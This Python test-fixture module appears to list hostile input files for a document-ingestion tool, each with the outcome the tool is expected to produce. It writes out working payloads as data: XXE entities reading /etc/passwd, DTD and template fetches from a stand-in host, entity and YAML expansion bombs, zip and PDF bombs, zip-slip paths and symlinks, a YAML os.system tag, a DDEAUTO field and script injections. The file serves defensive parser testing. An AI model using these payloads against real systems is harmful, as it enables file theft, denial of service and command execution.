"""Hostile files: name, bytes, and what must happen. To add a case: a row in FILES.

`briefed`: an article comes out that says these words. `rejected`: the file is a Failure whose message says these words.
`neutralised`: an article comes out, and these words (a secret, a copy, a command) stand nowhere in it.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO

TEXT = "试点报告\n\n本年试点城市增加到12个，各地要完善目录、统一标准，推动数据按需共享。\n"
SAID = "试点城市增加到12个"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/package/2006/relationships"


@dataclass(frozen=True, slots=True)
class Case:
    """One file."""

    name: str
    data: Callable[[], bytes]
    fate: str
    words: str


def _zip(*members: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w", method) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return packed.getvalue()


def _text_zip(*names: str) -> bytes:
    return _zip(*((name, TEXT.encode()) for name in names))


def _lying_zip() -> bytes:
    """Ten megabytes whose stated size is ten bytes, in both headers."""
    data = bytearray(_zip(("a.txt", b"x" * 10_000_000)))
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = data.find(mark)
        data[start + at : start + at + 4] = struct.pack("<I", 10)
    return bytes(data)


def _locked_zip() -> bytes:
    data = bytearray(_text_zip("a.txt"))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.find(mark) + at] |= 1
    return bytes(data)


def _link_zip() -> bytes:
    info = zipfile.ZipInfo("link.txt")
    info.external_attr = 0o120777 << 16
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(info, "/etc/passwd")
        archive.writestr("a.txt", TEXT)
    return packed.getvalue()


def _nameless_zip() -> bytes:
    """A good member, and one whose name the directory at the end gives as its comment."""
    data = bytearray(_text_zip("a.txt", "b.txt"))
    entry = data.rindex(b"PK\x01\x02")
    data[entry + 28 : entry + 34] = bytes((0, 0, 0, 0, 5, 0))
    return bytes(data)


def _nested_zip(depth: int) -> bytes:
    data = _text_zip("a.txt")
    for _ in range(depth):
        data = _zip(("a.zip", data))
    return data


def _word(
    body: str, *, before: str = "", more: tuple[tuple[str, bytes], ...] = (), method: int = zipfile.ZIP_DEFLATED
) -> bytes:
    document = f'<?xml version="1.0"?>{before}<w:document xmlns:w="{_W}"><w:body>{body}</w:body></w:document>'
    return _zip(("word/document.xml", document.encode()), *more, method=method)


def _paragraph(words: str) -> str:
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


WORDS = "".join(_paragraph(line) for line in TEXT.split("\n") if line)
_ENTITIES = "<!DOCTYPE a [" + "".join(
    f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "哈" * 10}">' for n in range(10)
) + "]>"  # fmt: skip
_OUTSIDE = '<!DOCTYPE a [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
_OUTSIDE_DTD = '<!DOCTYPE a SYSTEM "http://outside.invalid/a.dtd">'
_PARAMETER = '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://outside.invalid/p.dtd"> %p;]>'
_LINKED = (
    f'<Relationships xmlns="{_R}"><Relationship Id="r1" Type="x/image" Target="file:///etc/passwd" TargetMode="External"/>'
    '<Relationship Id="r2" Type="x/attachedTemplate" Target="http://outside.invalid/t.dotm" TargetMode="External"/></Relationships>'
).encode()


def _html(inner: str) -> bytes:
    return f"<html><head><title>试点报告</title></head><body><h1>试点报告</h1><p>{TEXT.split()[1]}</p>{inner}</body></html>".encode()


def _front(yaml: str) -> bytes:
    return f"---\n{yaml}\n---\n{TEXT}".encode()


def _json_deep(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


_LAUGHS = "a0: &a0 [哈, 哈]\n" + "".join(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}, *a{n - 1}]\n" for n in range(1, 30))
_PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"


def _pdf_bomb() -> bytes:
    stream = zlib.compress(b"0" * 200_000_000, 9)
    head = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    head += b"3 0 obj<</Type/Page/Parent 2 0 R/Contents 4 0 R>>endobj\n4 0 obj<</Filter/FlateDecode/Length "
    return (
        head + str(len(stream)).encode() + b">>stream\n" + stream + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    )


def _case(name: str, data: bytes | str | Callable[[], bytes], fate: str, words: str) -> Case:
    if callable(data):
        return Case(name, data, fate, words)
    encoded = data.encode() if isinstance(data, str) else data
    return Case(name, lambda: encoded, fate, words)


FILES: dict[str, Case] = {
    # names
    "name of a device": _case("CON.txt", TEXT, "briefed", SAID),
    "name of a device, lower case": _case("nul.txt", TEXT, "briefed", SAID),
    "name with a stream": _case("a.txt:b.txt", TEXT, "briefed", SAID),
    "name that ends with a dot": _case("a.", TEXT, "rejected", "this kind of file is not read"),
    "name that ends with a blank": _case("a.txt ", TEXT, "rejected", "this kind of file is not read"),
    "name with a line feed": _case("a\nb.txt", TEXT, "briefed", SAID),
    "name with codes for the terminal": _case("\x1b[31ma\x07.txt", TEXT, "briefed", SAID),
    "name that is turned": _case("a\u202etxt.exe.txt", TEXT, "briefed", SAID),
    "name with markup": _case("<img src=x onerror=alert(1)>.txt", TEXT, "briefed", SAID),
    "name that is an option": _case("--help.txt", TEXT, "briefed", SAID),
    "name with a template": _case("{{7*7}}.txt", TEXT, "briefed", SAID),
    "name with a formula": _case("=1+1.txt", TEXT, "briefed", SAID),
    "name that climbs": _case("..%2f..%2fetc.txt", TEXT, "briefed", SAID),
    "name with backslashes": _case("..\\..\\a.txt", TEXT, "briefed", SAID),
    "longest name": _case("长" * 80 + ".txt", TEXT, "briefed", SAID),
    "name without a suffix": _case("README", TEXT, "rejected", "this kind of file is not read"),
    "program": _case("a.exe", b"MZ\x90\x00", "rejected", "this kind of file is not read"),
    "two suffixes": _case("a.html.txt", "<b>试点报告</b>\n\n" + TEXT, "briefed", SAID),
    # text and encodings
    "empty": _case("a.txt", b"", "rejected", "the file is empty"),
    "blanks": _case("a.txt", b" \r\n\t", "rejected", "the file is empty"),
    "nulls": _case("a.txt", b"\0" * 1000, "rejected", "the file is empty"),
    "noise": _case("a.txt", bytes(range(256)) * 40, "rejected", "binary data"),
    "picture": _case("a.txt", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 9, "rejected", "binary data"),
    "cut within a character": _case("a.txt", TEXT.encode()[:-2] + b"\xe6\x96", "briefed", SAID),
    "stray bytes": _case("a.txt", TEXT.encode() + b"\xff\xfe\xc0\xaf" + TEXT.encode(), "briefed", SAID),
    "overlong slash": _case("a.txt", TEXT.encode() + b"\xc0\xae\xc0\xae\xc0\xaf", "briefed", SAID),
    "lone surrogates": _case("a.txt", TEXT.encode() + b"\xed\xa0\x80\xed\xb0\x80", "briefed", SAID),
    "mark of another encoding": _case("a.txt", b"\xff\xfe" + TEXT.encode(), "briefed", SAID),
    "utf-7": _case("a.txt", TEXT.encode() + b"+ADw-script+AD4-alert(1)", "neutralised", "<script>"),
    "declared utf-7": _case(
        "a.html", b"<meta charset=utf-7>" + _html("<p>+ADw-script+AD4-</p>"), "neutralised", "<script>"
    ),
    "declared codec that is none": _case("a.html", b"<meta charset=rot13>" + _html(""), "briefed", SAID),
    "declared codec that packs": _case("a.html", b"<meta charset=zlib_codec>" + _html(""), "briefed", SAID),
    "declared codec of escapes": _case(
        "a.html", b"<meta charset=unicode_escape>" + _html("\\u003cb\\u003e"), "briefed", SAID
    ),
    "declared idna": _case("a.html", b"<meta charset=idna>" + _html(""), "briefed", SAID),
    "declared undefined": _case("a.html", b"<meta charset=undefined>" + _html(""), "briefed", SAID),
    "one line of a quarter million": _case(
        "a.txt", ("试点报告\n\n" + "数据按需共享，" * 40_000 + SAID + "。").encode, "briefed", SAID
    ),
    "ten thousand lines": _case("a.txt", (TEXT + "数\n" * 10_000).encode, "briefed", SAID),
    "fifty thousand years": _case("a.txt", (TEXT + "2024年" * 50_000).encode, "briefed", SAID),
    "twenty thousand bare ordinals": _case("a.txt", (TEXT + "一、\n" * 20_000).encode, "briefed", SAID),
    "combining marks": _case("a.txt", TEXT + "甲" + "\u0301" * 50_000, "briefed", SAID),
    "front matter that is markup": _case("a.md", _front("title: <script>alert(1)</script>"), "briefed", SAID),
    "front matter with aliases": _case("a.md", _front("a: &a 1\nb: *a"), "briefed", SAID),
    "front matter that laughs": _case("a.md", lambda: _front(_LAUGHS), "briefed", SAID),
    "front matter with a tag": _case("a.md", _front("title: !!python/object/apply:os.system [id]"), "briefed", SAID),
    "front matter with doubles": _case("a.md", _front("title: 甲\ntitle: 乙"), "briefed", SAID),
    "front matter that is deep": _case("a.md", lambda: _front("a: " + "[" * 5000), "briefed", SAID),
    "front matter without an end": _case("a.md", "---\ntitle: 甲\n" + TEXT, "briefed", SAID),
    "snippet of the system": _case("a.md", TEXT + '\n--8<-- "/etc/passwd"\n', "neutralised", "root:"),
    "deep quotes": _case("a.md", TEXT + ">" * 20_000 + "甲", "briefed", SAID),
    "deep lists": _case("a.md", (TEXT + "".join(" " * n + "- 甲\n" for n in range(500))).encode, "briefed", SAID),
    "open brackets": _case("a.md", TEXT + "[" * 50_000, "briefed", SAID),
    "open code": _case("a.md", TEXT + "`" * 50_000, "briefed", SAID),
    # web pages
    "script": _case("a.html", _html("<script>alert(1)</script>"), "neutralised", "alert(1)"),
    "entity from outside": _case("a.html", _OUTSIDE.encode() + _html("<p>&secret;</p>"), "neutralised", "root:"),
    "entities that laugh": _case("a.xhtml", lambda: _ENTITIES.encode() + _html("<p>&e9;</p>"), "neutralised", "哈哈"),
    "include of a server": _case("a.shtml", _html('<!--#include file="/etc/passwd"-->'), "neutralised", "root:"),
    "hidden text": _case("a.html", _html("<noscript>暗语</noscript><template>暗语</template>"), "neutralised", "暗语"),
    "ten thousand deep": _case("a.html", lambda: _html("<div>" * 10_000 + "深处" + "</div>" * 10_000), "briefed", SAID),
    "deep and never closed": _case("a.html", lambda: _html("<b><i><a href=x>" * 5_000), "briefed", SAID),
    "deep tables": _case("a.html", lambda: _html("<table><tr><td>" * 1_500 + "深"), "briefed", SAID),
    "a hundred thousand attributes": _case(
        "a.html", lambda: _html("<p " + " ".join(f"a{n}=x" for n in range(100_000)) + ">末</p>"), "briefed", SAID
    ),
    "an attribute of a megabyte": _case(
        "a.html", lambda: _html(f'<p title="{"x" * 1_000_000}">末</p>'), "briefed", SAID
    ),
    "tags that never close": _case("a.html", lambda: _html("<" * 100_000), "briefed", SAID),
    "tags with an open quote": _case("a.html", lambda: _html('<a href="' * 20_000), "briefed", SAID),
    "comments that never close": _case("a.html", lambda: _html("<!--" * 50_000), "briefed", SAID),
    "declarations": _case("a.html", lambda: _html("<!x" * 50_000), "briefed", SAID),
    "closing tags": _case("a.html", lambda: _html("</p></div>" * 20_000), "briefed", SAID),
    "ampersands": _case("a.html", lambda: _html("&" * 100_000 + "&#" * 50_000 + "&x" * 50_000), "briefed", SAID),
    "entities beyond the last": _case("a.html", _html("&#x110000;&#xd800;&#0;&#99999999999;&bogus;"), "briefed", SAID),
    # Word
    "external entity": _case("a.docx", _word(WORDS + _paragraph("&secret;"), before=_OUTSIDE), "neutralised", "root:"),
    "external entity type": _case("a.docx", _word(WORDS, before=_OUTSIDE_DTD), "briefed", SAID),
    "parameter entity": _case("a.docx", _word(WORDS, before=_PARAMETER), "briefed", SAID),
    "laughing entities": _case(
        "a.docx", lambda: _word(WORDS + _paragraph("&e9;"), before=_ENTITIES), "rejected", "word/document.xml is broken"
    ),
    "external relations": _case(
        "a.docx", _word(WORDS, more=(("word/_rels/document.xml.rels", _LINKED),)), "neutralised", "root:"
    ),
    "deep content controls": _case(
        "a.docx", lambda: _word(WORDS + "<w:sdt>" * 200 + "</w:sdt>" * 200), "briefed", SAID
    ),
    "too deep for XML": _case(
        "a.docx",
        lambda: _word("<w:p>" * 100_000 + "</w:p>" * 100_000, method=zipfile.ZIP_STORED),
        "rejected",
        "word/document.xml is broken",
    ),
    "attributes in Word": _case(
        "a.docx", lambda: _word(WORDS + "<w:p " + " ".join(f"a{n}='x'" for n in range(100_000)) + "/>"), "briefed", SAID
    ),
    "bomb in Word": _case(
        "a.docx", lambda: _word(WORDS + _paragraph("字" * 1_000_000)), "rejected", "a member that is no bomb"
    ),
    "Word that is a zip": _case("a.docx", _text_zip("a.txt"), "rejected", "Word"),
    "Word that is text": _case("a.docx", TEXT, "rejected", "the file is broken"),
    "Word that is cut": _case("a.docx", _word(WORDS)[:-30], "rejected", "the file is broken"),
    "Word with broken XML": _case("a.docx", _word("<w:p>"), "rejected", "word/document.xml is broken"),
    "deleted text": _case(
        "a.docx",
        _word(WORDS + "<w:p><w:del><w:r><w:delText>密语</w:delText></w:r></w:del></w:p>"),
        "neutralised",
        "密语",
    ),
    "a field that runs": _case(
        "a.docx",
        _word(WORDS + "<w:p><w:r><w:instrText>DDEAUTO c:\\cmd</w:instrText></w:r></w:p>"),
        "neutralised",
        "DDEAUTO",
    ),
    # archives
    "member without a name": _case("a.zip", _nameless_zip(), "briefed", SAID),
    "member that climbs": _case("a.zip", _text_zip("../../../../etc/a.txt"), "briefed", SAID),
    "absolute member": _case("a.zip", _text_zip("/etc/a.txt"), "briefed", SAID),
    "member of a drive": _case("a.zip", _text_zip("C:\\a.txt"), "briefed", SAID),
    "member that is a link": _case("a.zip", _link_zip, "neutralised", "root:"),
    "member with a line feed": _case("a.zip", _text_zip("a\nb.txt"), "briefed", SAID),
    "bomb": _case("a.zip", lambda: _zip(("a.txt", b"x" * 50_000_000)), "rejected", "a member that is no bomb"),
    "member larger than stated": _case("a.zip", _lying_zip, "rejected", "no member of the archive can be read"),
    "locked member": _case("a.zip", _locked_zip, "rejected", "no member of the archive can be read"),
    "archive in an archive": _case("a.zip", lambda: _nested_zip(1), "rejected", "no member of the archive can be read"),
    "forty archives deep": _case("a.zip", lambda: _nested_zip(40), "rejected", "no member of the archive can be read"),
    "too many members": _case(
        "a.zip", lambda: _zip(*((f"{n}.txt", b"") for n in range(5_001))), "rejected", "at most 5000"
    ),
    "archive of programs": _case("a.zip", _text_zip("a.exe"), "rejected", "no member of the archive can be read"),
    "archive that is text": _case("a.zip", TEXT, "rejected", "the file is broken"),
    "empty archive": _case("a.zip", _zip(), "rejected", "no member of the archive can be read"),
    "cut archive": _case("a.zip", _text_zip("a.txt")[:60], "rejected", "the file is broken"),
    # records
    "deep JSON": _case("a.json", lambda: _json_deep(100_000), "rejected", "a.json"),
    "deep line of JSON": _case("a.jsonl", lambda: _json_deep(100_000), "rejected", "a.jsonl"),
    "JSON of a long number": _case("a.json", b'[{"title":"a","body":' + b"9" * 10_000 + b"}]", "rejected", "a.json"),
    "JSON that is not finite": _case("a.json", b'[{"title":NaN,"body":Infinity}]', "rejected", "a.json"),
    "JSON cut": _case("a.json", b'[{"title":"a"', "rejected", "a.json"),
    "JSON with doubles": _case(
        "a.json", f'{{"title":"甲","title":"试点报告","body":"{TEXT.split()[1]}"}}', "briefed", SAID
    ),
    "JSON with lone surrogates": _case(
        "a.json", f'{{"title":"\\ud800","body":"{TEXT.split()[1]}\\udfff"}}', "briefed", SAID
    ),
    "JSON with nulls": _case("a.json", f'{{"title":"a\\u0000b","body":"{TEXT.split()[1]}\\u0000"}}', "briefed", SAID),
    "JSON of markup": _case(
        "a.json",
        f'{{"title":"试点报告","body":"<p>{TEXT.split()[1]}</p><script>alert(1)</script>"}}',
        "neutralised",
        "alert(1)",
    ),
    "a key that is special": _case(
        "a.json", f'{{"__proto__":{{}},"__class__":"x","title":"试点报告","body":"{TEXT.split()[1]}"}}', "briefed", SAID
    ),
    "table of formulas": _case("a.csv", f"标题,正文\n=1+1,{TEXT.split()[1]}\n", "briefed", SAID),
    "table with an open quote": _case("a.csv", f'标题,正文\n试点报告,"{TEXT.split()[1]}\n', "briefed", SAID),
    "table with nulls": _case("a.csv", f"标题,正文\n试点\x00报告,{TEXT.split()[1]}\x00\n", "briefed", SAID),
    "a cell of a megabyte": _case(
        "a.csv", f"标题,正文\n试点报告,{TEXT.split()[1]}{'数' * 300_000}\n".encode, "briefed", SAID
    ),
    # PDF
    "PDF that is its own page": _case("a.pdf", _PDF, "rejected", "a.pdf"),
    "PDF that is text": _case("a.pdf", TEXT, "rejected", "the PDF is broken"),
    "PDF cut": _case("a.pdf", b"%PDF-1.7\n", "rejected", "the PDF is broken"),
    "PDF bomb": _case("a.pdf", _pdf_bomb, "rejected", "a.pdf"),
}
